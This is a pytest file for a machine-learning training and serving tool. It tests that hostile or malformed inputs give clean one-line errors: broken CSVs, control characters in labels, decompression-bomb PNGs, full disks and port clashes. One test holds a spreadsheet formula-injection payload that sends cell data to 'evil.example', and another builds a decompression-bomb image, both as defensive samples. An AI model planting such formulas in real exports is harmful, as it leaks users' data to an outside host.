"""Inputs that must not sink a run or a server (issue 13, items 9-15): malformed CSVs, class
names that break files and plots, decompression bombs, a full disk, temporaries on shared
volumes, empty and hostile serving inputs, the multi-worker launcher's ports."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import REPO, error_line, refused, run_cli, write_image
from tfxfer.data import sources
from tfxfer.errors import TfxferError

# ---------------------------------------------------------------------------------------------
# Item 11: CSV faults are one line naming the line, not a csv.Error traceback


def test_train_refuses_a_mac_csv_a_class_name_with_a_newline_and_a_zero_pixel_limit(tiny_preset, tmp_path):
    """Three inputs that once gave a traceback or a broken labels.txt: each one line and status
    2, nothing exported (all three cases in one process: tests/cli_cases.py)."""
    mac = tmp_path / "mac.csv"
    mac.write_bytes(b'text,label\r"good film",pos\r"bad film",neg\r')
    for name in ("cat\nsiamese", "dog", "fox"):
        for i in range(2):
            write_image(tmp_path / "data" / name / f"{i}.png", seed=i)
    outputs = ["--output", str(tmp_path / "run"), "--export-dir", str(tmp_path / "models")]
    results = refused("tfxfer.train", [
        (["--task", "text", "--backbone", f"kerashub:{tiny_preset}", "--train", str(mac), *outputs],
         f"{mac} line 1 has a carriage return"),
        (["--backbone", "keras:MobileNet", "--weights", "none", "--train", str(tmp_path / "data"), *outputs],
         "class name 'cat\\nsiamese' holds the control or line-break character '\\n'"),
        (["--backbone", "keras:MobileNet", "--train", str(tmp_path / "data"), "--max-image-pixels", "0",
          *outputs], "--max-image-pixels must be >= 1, got 0"),
    ], tmp_path)
    assert "line ends" in error_line(results[0])
    assert not list(tmp_path.glob("models/**/labels.txt")) and not (tmp_path / "run").exists()


@pytest.mark.parametrize("content, where, problem", [
    (b"text,label\ngood film,pos\ngood\rfilm,pos\nbad film,neg\n", "line 3", "carriage return"),
    (b"text,label\n" + b"x" * (sources.CSV_FIELD_LIMIT + 1) + b",pos\nbad,neg\n", "line 2",
     f"a field over {sources.CSV_FIELD_LIMIT:,} characters"),
], ids=["lone-cr-in-a-field", "field-over-the-limit"])
def test_csv_faults_name_the_line(content, where, problem, tmp_path):
    path = tmp_path / "train.csv"
    path.write_bytes(content)
    with pytest.raises(TfxferError) as error:
        sources.read_text_splits(str(path))
    assert f"{path} {where} " in str(error.value) and problem in str(error.value)
    assert "\n" not in str(error.value)


def test_texts_longer_than_the_csv_modules_default_limit_are_read(tmp_path):
    long_text = "a long review " * 20_000  # 280,000 characters; the csv module stops at 131,072
    path = tmp_path / "train.csv"
    path.write_text(f"text,label\n{long_text},pos\nshort,neg\nanother,pos\nmore,neg\n")
    splits = sources.read_text_splits(str(path), val_split=0.5)
    assert long_text.strip() in splits.train.inputs + splits.val.inputs
    import csv

    assert csv.field_size_limit() == 131_072, "the process-wide limit is restored"


# ---------------------------------------------------------------------------------------------
# Item 10: class names are one line of literal text; issue 14 item 11: whole-number epochs


@pytest.mark.parametrize("label", ["pos\u2028itive", "ne\x85g", "a\rb", "tab\there"])
def test_text_labels_with_line_or_control_characters_are_refused(label, tmp_path):
    import json

    path = tmp_path / "train.jsonl"
    rows = [{"text": "good", "label": label}, {"text": "bad", "label": "neg"}] * 3
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    with pytest.raises(TfxferError) as error:
        sources.read_text_splits(str(path))
    assert f"class name {label!r} holds the control or line-break character" in str(error.value)
    assert len(str(error.value).splitlines()) == 1


def test_plots_draw_dollar_signs_literally(tmp_path):
    from tfxfer.reports.plots import plot_confusion_matrix, plot_worst_examples

    names = ["$5 to $10", "$x^$", "a_$b$"]  # "$x^$" is a mathtext syntax error
    plot_confusion_matrix([[1, 0, 0], [0, 2, 0], [1, 0, 3]], names, tmp_path / "cm.png")
    image = write_image(tmp_path / "i.png")
    plot_worst_examples([{"input": str(image), "true": names[1], "predicted": names[2], "true_probability": 0.1}],
                        tmp_path / "worst.png")
    assert (tmp_path / "cm.png").stat().st_size > 0 and (tmp_path / "worst.png").stat().st_size > 0


def test_training_curves_have_whole_number_epoch_ticks():
    import matplotlib.pyplot as plt

    from tfxfer.reports.plots import training_curves_figure

    history = {"loss": [1.0, 0.6, 0.4], "val_loss": [1.1, 0.7, 0.5], "accuracy": [0.5, 0.7, 0.8]}
    fig = training_curves_figure(history, phase1_epochs=1)
    fig.canvas.draw()
    for ax in fig.axes:
        ticks = [t for t in ax.get_xticks() if ax.get_xlim()[0] <= t <= ax.get_xlim()[1]]
        assert ticks and all(float(t).is_integer() for t in ticks), ticks
    plt.close(fig)


# ---------------------------------------------------------------------------------------------
# Item 9: decompression bombs are refused from their header; item 14: empty serving batches


def _bomb(path: Path, pixels_wide: int = 10_000) -> Path:
    """A real PNG of 10000 x 10000 pixels: 12 KB on disk, 1.2 GB decoded as float32 RGB."""
    from PIL import Image

    Image.new("1", (pixels_wide, pixels_wide)).save(path)
    return path


@pytest.fixture(scope="module")
def temporaries(tmp_path_factory) -> tuple[Path, dict[str, Path], dict[str, Path]]:
    """(export dir, temporaries an export must keep, those it must remove), laid out in the
    model's directory as killed or running exports left them on a volume shared by hosts."""
    import os
    import socket
    import subprocess
    import sys
    import time

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead_pid = int(gone.stdout)  # a process id that no live process has (here)
    export_dir = tmp_path_factory.mktemp("exported")
    model_dir = export_dir / "animals"
    kept = {  # other hosts' exports in progress, whatever their pids mean here
        "other host": model_dir / f".tmp-node-7.cluster-{dead_pid}-0123abcd",
        "older tfxfer's name": model_dir / f".tmp-{dead_pid}-0123abcd",
    }
    removed = {
        "this host, writer gone": model_dir / f".tmp-{socket.gethostname()}-{dead_pid}-89abcdef",
        "untouched for two days": model_dir / f".tmp-node-7.cluster-{dead_pid}-fedcba98",
    }
    for path in (*kept.values(), *removed.values()):
        (path / "variables").mkdir(parents=True)
    two_days_ago = time.time() - 2 * 24 * 3600
    os.utime(removed["untouched for two days"], (two_days_ago, two_days_ago))
    return export_dir, kept, removed


@pytest.fixture(scope="module")
def exported_image_model(temporaries) -> Path:
    import keras

    import tfxfer

    keras.utils.set_random_seed(1)
    model = tfxfer.build_image_classifier("keras:MobileNet", 3, weights="none", image_size=(32, 32))
    return tfxfer.export_saved_model(model, temporaries[0], "animals", ["cat", "dog", "fox"], max_image_pixels=50_000)


def test_the_serving_signature_refuses_a_bomb_before_decoding_it(exported_image_model, tmp_path):
    import json
    import resource

    import tensorflow as tf

    serve = tf.saved_model.load(str(exported_image_model)).signatures["serving_default"]
    small = write_image(tmp_path / "small.png", size=(200, 250)).read_bytes()  # 50,000 pixels: at the limit
    assert serve(image_bytes=tf.constant([small]))["class_name"].shape == (1,)
    for name, blob in [("png", _bomb(tmp_path / "bomb.png").read_bytes()),
                       ("jpg", write_image(tmp_path / "big.jpg", size=(251, 200)).read_bytes()),
                       ("gif", write_image(tmp_path / "big.gif", size=(300, 200)).read_bytes()),
                       ("bmp", write_image(tmp_path / "big.bmp", size=(200, 300)).read_bytes())]:
        grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        with pytest.raises(tf.errors.InvalidArgumentError, match="pixels is over the limit of 50,000 pixels"):
            serve(image_bytes=tf.constant([small, blob]))
        grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - grown) / 1024
        assert grown < 200, f"{name}: refusing it cost {grown:.0f} MB"
    info = json.loads((exported_image_model / "assets" / "tfxfer.json").read_text())
    assert info["max_image_pixels"] == 50_000


def test_header_sizes_match_the_decoded_sizes(tmp_path):
    import struct

    import tensorflow as tf

    from tfxfer.data.images import decode_image, encoded_size

    for fmt, mode in [("jpg", "RGB"), ("png", "RGBA"), ("png", "I;16"), ("gif", "RGB"), ("bmp", "RGB")]:
        blob = write_image(tmp_path / f"x.{fmt}", size=(37, 53), mode=mode).read_bytes()
        assert encoded_size(tf.constant(blob)).numpy().tolist() == [53, 37] == decode_image(blob).shape[:2], fmt
    top_down = bytearray(write_image(tmp_path / "t.bmp", size=(5, 9)).read_bytes())
    top_down[22:26] = struct.pack("<i", -9)  # negative height: rows stored top-down
    assert encoded_size(tf.constant(bytes(top_down))).numpy().tolist() == [9, 5]
    for not_an_image in (b"", b"garbage", b"RIFF\0\0\0\0WEBPVP8X"):
        assert encoded_size(tf.constant(not_an_image)).numpy().tolist() == [-1, -1]


def test_an_empty_batch_gets_empty_outputs(exported_image_model):
    import tensorflow as tf

    serve = tf.saved_model.load(str(exported_image_model)).signatures["serving_default"]
    out = serve(image_bytes=tf.constant([], tf.string))
    assert out["probabilities"].shape == (0, 3) and out["probabilities"].dtype == tf.float32
    assert out["class_id"].shape == (0,) and out["class_name"].shape == (0,)


def test_worst_examples_csv_quotes_texts_that_spreadsheets_would_run(tmp_path):
    import csv
    import json

    import numpy as np

    from tfxfer.reports.report_files import write_report

    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "fine text", "-"]
    labels = np.array([0, 1, 0, 1, 0, 1])
    probabilities = np.tile([[0.2, 0.8], [0.9, 0.1]], (3, 1)).astype(np.float32)  # every one wrong
    write_report(tmp_path, probabilities, labels, ["=neg", "pos"], "text", texts, model="m", data="d")
    with open(tmp_path / "worst_examples.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert sorted(row["input"] for row in rows) == sorted("'" + t if t[0] in "=+-@" else t for t in texts)
    assert {row["true"] for row in rows} | {row["predicted"] for row in rows} == {"'=neg", "pos"}
    report = json.loads((tmp_path / "report.json").read_text())
    assert sorted(row["input"] for row in report["worst_examples"]) == sorted(texts), "the JSON keeps them as they are"


# ---------------------------------------------------------------------------------------------
# Item 13: on a shared export volume, another host's export in progress is not "stale"


def test_export_cleans_only_its_own_hosts_dead_temporaries_and_old_ones(temporaries, exported_image_model):
    _, kept, removed = temporaries
    assert exported_image_model.name == "1"
    for why, path in kept.items():
        assert path.exists(), f"{why}: {path.name} was removed"
    for why, path in removed.items():
        assert not path.exists(), f"{why}: {path.name} was left"


# ---------------------------------------------------------------------------------------------
# Item 12: a full disk while caching features is one line, not SIGBUS, and leaves no temporary


def test_a_full_disk_while_caching_features_is_one_line_and_cleans_up(tiny_images, tmp_path):
    """A real full file system: a 32 KB tmpfs mounted on the run directory inside a private
    mount namespace (``unshare -rm``: root in a user namespace, nothing outside changes)."""
    import os
    import shlex
    import shutil
    import subprocess
    import sys

    if shutil.which("unshare") is None:
        pytest.skip("needs unshare(1) to mount a small tmpfs")
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    command = [sys.executable, "-m", "tfxfer.train", "--task", "image", "--backbone", "keras:MobileNet",
               "--weights", "none", "--image-size", "32", "--batch-size", "8", "--recipe", "fixed",
               "--epochs", "1", "--fine-tune-epochs", "0", "--train", str(tiny_images),
               "--output", str(run_dir), "--export-dir", str(tmp_path / "models")]
    script = (f"mount -t tmpfs -o size=32k tmpfs {shlex.quote(str(run_dir))} || exit 99\n"
              f"{shlex.join(command)}\nstatus=$?\n"
              f"find {shlex.quote(str(run_dir))} -name '*tmp*' >&2\nexit $status\n")
    result = subprocess.run(["unshare", "-rm", "bash", "-c", script], capture_output=True, text=True, timeout=600,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    if result.returncode == 99 or "unshare failed" in result.stderr:
        pytest.skip(f"cannot mount a tmpfs in a user namespace here: {result.stderr.strip()[-200:]}")
    assert result.returncode == 2, result.stderr[-3000:]
    line = error_line(result)
    assert "no space left in" in line and "--no-cache-features" in line
    assert ".tmp-" not in result.stderr, "the half-written cache entry was left behind"


# ---------------------------------------------------------------------------------------------
# Item 15: the launcher's ports


def test_the_launcher_starts_again_on_new_ports_when_a_picked_one_is_taken(tiny_images, tmp_path, capsys):
    import socket

    from tfxfer.launch import free_ports, launch

    blocker = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # another process's server, come first
    blocker.bind(("127.0.0.1", 0))
    blocker.listen()
    taken = blocker.getsockname()[1]
    picked = []

    def pick(n):  # the first pick is the port another process takes before the worker binds it
        picked.append([taken] if not picked else free_ports(n))
        return picked[-1]

    try:  # a backbone that does not exist: the second start fails with that, after the worker listened
        code = launch(1, ["--strategy", "multi_worker", "--task", "image", "--backbone", "keras:NoSuchNet",
                          "--recipe", "fixed", "--train", str(tiny_images), "--output", str(tmp_path / "run"),
                          "--export-dir", str(tmp_path / "models")], pick_ports=pick)
    finally:
        blocker.close()
    out, err = capsys.readouterr()
    assert len(picked) == 2 and picked[1] != [taken]
    assert f"worker-0 could not listen on 127.0.0.1:{taken} (TF_CONFIG): another process holds that port" in out
    assert "Traceback" not in out, out[-3000:]
    assert "starting them again on new ports (attempt 2 of 3)" in err
    assert code == 2 and "NoSuchNet" in out.splitlines()[-1], out[-3000:]


def test_free_ports_are_free_on_every_interface():
    import socket

    from tfxfer.launch import free_ports

    ports = free_ports(3)
    assert len(set(ports)) == 3
    for port in ports:  # what TensorFlow's server binds: the wildcard address
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind(("0.0.0.0", port))
        s.close()


def test_private_network_keeps_the_workers_on_loopback(tiny_images, tmp_path):
    """Both workers start their gRPC servers (which TensorFlow binds to every interface) and
    form their cluster inside a network namespace whose only interface is loopback; they then
    stop at a backbone that does not exist."""
    import shutil
    import subprocess

    if shutil.which("unshare") is None or subprocess.run(["unshare", "-rn", "true"]).returncode != 0:
        pytest.skip("needs unprivileged user and network namespaces (unshare -rn)")
    result = run_cli("tfxfer.launch", "--private-network", "--workers", "2", "--", "--strategy", "multi_worker",
                     "--task", "image", "--backbone", "keras:NoSuchNet", "--recipe", "fixed",
                     "--train", str(tiny_images), "--output", str(tmp_path / "run"),
                     "--export-dir", str(tmp_path / "models"))
    assert "the workers run in a private network namespace; its interfaces: lo\n" in result.stderr
    assert result.returncode == 2, result.stdout[-3000:] + result.stderr[-3000:]
    assert "unknown keras.applications model 'NoSuchNet'" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr


def test_predict_says_an_image_is_over_the_models_pixel_limit(exported_image_model, tmp_path):
    bomb = _bomb(tmp_path / "bomb.png")
    result = run_cli("tfxfer.predict", str(exported_image_model), str(bomb))
    assert result.returncode == 2, result.stderr[-3000:]
    assert (f"an image in {bomb} is too large: image of 10000 x 10000 pixels is over the limit of 50,000 pixels "
            "the model was exported with (--max-image-pixels)") in error_line(result)
